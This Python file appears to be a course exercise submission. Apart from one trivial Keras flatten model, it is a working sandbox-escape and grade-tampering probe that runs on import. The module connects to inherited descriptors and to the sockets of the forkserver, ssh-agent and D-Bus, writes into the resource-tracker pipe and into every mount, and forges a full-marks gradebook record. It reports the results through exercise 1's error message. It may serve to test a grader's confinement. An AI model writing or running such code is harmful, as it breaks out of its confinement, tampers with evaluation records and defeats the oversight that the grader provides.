"""Looks for a way out of the sandbox through what its process inherited, and reports what it found
through exercise 1's feedback (exercise 4, next door, is correct and must earn exactly its points):

- descriptors left open: multiprocessing's forkserver and resource tracker pipes, anything else;
- the forkserver's socket (it runs anything it is sent, outside every namespace), by the address in
  multiprocessing's own state, and any other program's socket in the temp folders, /run and /var (an
  ssh-agent's, a tmux server's, the D-Bus session bus that starts programs outside the sandbox, a
  database's or LXD's under /var/lib or /var/snap), at the top of the file system, under /srv and /opt,
  and wherever its own network namespace's socket table names one;
- paths of the grader's (its temp folder, the gradebook) in its own memory, and writing a record
  that gives it full marks into the gradebook when it finds one;
- the same through the mount table, which names every covered folder (the class, the gradebook, the
  grader's work folder): it writes a file into every mount and looks for the gradebook under each.
"""
import gc
import glob
import json
import math
import multiprocessing.forkserver
import multiprocessing.resource_tracker
import os
import socket
import stat
import tempfile

import keras


def _open_descriptors() -> list[str]:
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            continue
        if int(name) > 2 and not target.startswith("/proc"):
            found.append(target)
    return found


def _grader_paths() -> set[str]:
    """Every string in this process's objects (and the obvious places) that names a grader folder."""
    texts = [os.getcwd(), tempfile.gettempdir(), json.dumps(dict(os.environ)),
             str(getattr(multiprocessing.forkserver._forkserver, "_forkserver_address", None)),
             str(multiprocessing.process.current_process()._config.get("tempdir"))]
    for item in gc.get_objects():
        if type(item).__name__ == "ProbeJob":  # what the grader sent this process (not the sources in it)
            texts += [repr(getattr(item, name, None)) for name in ("scratch", "hide", "limits")]
        elif type(item).__name__ == "Confinement":
            texts.append(repr(vars(item)))
    return {word.strip("'\",[]()") for text in texts for word in text.split()
            if "course-grade-" in word or "pymp-" in word or "out-faulty" in word}


def _sockets() -> list[str]:
    candidates = [str(getattr(multiprocessing.forkserver._forkserver, "_forkserver_address", None))]
    for pattern in ("/tmp/pymp-*/*", "/tmp/*", "/tmp/*/*", f"{tempfile.gettempdir()}/pymp-*/*", "/dev/shm/*",
                    "/var/tmp/*", "/run/*", "/run/user/*/*",  # the D-Bus session bus: /run/user/UID/bus
                    "/var/*", "/var/*/*", "/var/*/*/*",  # services' sockets: /var/lib, /var/spool, /var/snap
                    "/*", "/srv/*", "/srv/*/*", "/opt/*", "/opt/*/*"):  # and wherever else a service puts one
        candidates += glob.glob(pattern)
    try:
        with open("/proc/net/unix") as table:
            candidates += [line.split(None, 7)[7].strip() for line in table if len(line.split(None, 7)) == 8]
    except OSError:
        pass
    reached = []
    for path in candidates:
        try:
            if not stat.S_ISSOCK(os.stat(path).st_mode):
                continue
            with socket.socket(socket.AF_UNIX) as client:
                client.connect(path)
                reached.append(path)
        except OSError:
            continue
    return reached


def _writes_the_gradebook(paths: set[str]) -> str:
    for path in paths:
        for folder in glob.glob(os.path.join(path, "**", "students"), recursive=True):
            try:
                with open(os.path.join(folder, "escapes_sandbox.json"), "w") as record:
                    record.write('{"student": "escapes_sandbox", "total": 1000}')
                return "written"
            except OSError as error:
                return type(error).__name__
    return "none"


def _tracker() -> str:
    fd = multiprocessing.resource_tracker._resource_tracker._fd
    try:
        os.fstat(fd)
    except (OSError, TypeError):
        return "closed"
    try:
        os.write(fd, b"UNREGISTER:/course-escape:shared_memory\n")
        return "written"
    except OSError as error:
        return type(error).__name__


def _mounts() -> set[str]:
    """Every mount point the mount table names: each cover over a folder of the grader's (the class, the
    gradebook, its work folder, solutions/) is one, so their paths are there to read."""
    with open("/proc/self/mountinfo") as table:
        return {line.split()[4].replace("\\040", " ") for line in table}


def _writes_into_mounts(points: set[str]) -> tuple[int, str]:
    """(How many of the mounts, but its own scratch, took a file; what writing a full-marks record into
    a gradebook's `students` folder right under a mount gave)."""
    written, gradebook = 0, "none"
    for point in points:
        if point == os.getcwd() or point.startswith(("/proc", "/sys", "/dev")):
            continue
        try:
            with open(os.path.join(point, ".escaped"), "w") as note:
                note.write("escaped")
            written += 1
        except OSError:
            pass
        if os.path.isdir(os.path.join(point, "students")):
            try:
                with open(os.path.join(point, "students", "escapes_sandbox.json"), "w") as record:
                    record.write('{"student": "escapes_sandbox", "total": 1000}')
                gradebook = "written"
            except OSError as error:
                gradebook = type(error).__name__
    return written, gradebook


_paths = _grader_paths()
_mounts_written, _gradebook_by_mounts = _writes_into_mounts(_mounts())
REPORT = (f"ESCAPE descriptors={len(_open_descriptors())} sockets={len(_sockets())} tracker={_tracker()} "
          f"paths={len(_paths)} gradebook={_writes_the_gradebook(_paths)} mounts_written={_mounts_written} "
          f"gradebook_by_mounts={_gradebook_by_mounts} found={sorted(_paths)[:3]} "
          f"open={_open_descriptors()[:4]}")


def flat_length(input_shape):
    raise RuntimeError(REPORT)


def build_flatten_model(input_shape):
    return keras.Sequential([keras.Input(shape=input_shape), keras.layers.Flatten()])


assert math
